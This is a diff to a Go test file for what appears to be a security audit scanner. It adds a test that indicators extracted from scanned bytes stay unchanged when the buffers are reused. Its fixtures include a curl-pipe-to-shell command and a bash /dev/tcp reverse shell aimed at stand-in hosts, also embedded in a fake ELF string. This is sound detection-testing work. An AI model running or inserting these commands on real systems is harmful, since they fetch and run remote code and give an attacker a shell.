@@ -2,6 +2,7 @@ package audit_test
 
 import (
 	"encoding/base64"
+	"fmt"
 	"slices"
 	"strings"
 	"testing"
@@ -119,6 +120,30 @@ func TestRuleTechniques(t *testing.T) {
 	for _, w := range []string{"T1059.004", "T1095", "T1053.003"} {
 		if !slices.Contains(got, w) {
 			t.Errorf("RS-002 in cron: %v lacks %s", got, w)
+		}
+	}
+}
+
+// Indicators are read from a view of the bytes scanned, not a copy: what ExtractIndicators
+// returns must not change when the bytes do (the scan's buffers are reused for the next file).
+func TestIndicatorsOutliveTheirBytes(t *testing.T) {
+	for _, data := range []string{
+		"curl -s http://evil.example.com:8080/x | sh; bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
+		"\x7fELF\x00\x00\x00\x00connect\x00http://evil.example.com:8080/x\x00/dev/tcp/203.0.113.9/4444\x00\x00",
+	} {
+		buf := []byte(data)
+		inds := audit.ExtractIndicators(buf)
+		want := fmt.Sprint(inds)
+		if !strings.Contains(want, "evil.example.com") || !strings.Contains(want, "203.0.113.9") {
+			t.Fatalf("%q: indicators %s", data, want)
+		}
+		for i := range buf {
+			buf[i] = 'x'
+		}
+		// The pool's buffer for printable runs is reused too.
+		audit.ExtractIndicators([]byte("\x00" + strings.Repeat("z", len(data)*2)))
+		if got := fmt.Sprint(inds); got != want {
+			t.Errorf("%q: indicators changed with their bytes: %s, were %s", data, got, want)
 		}
 	}
 }
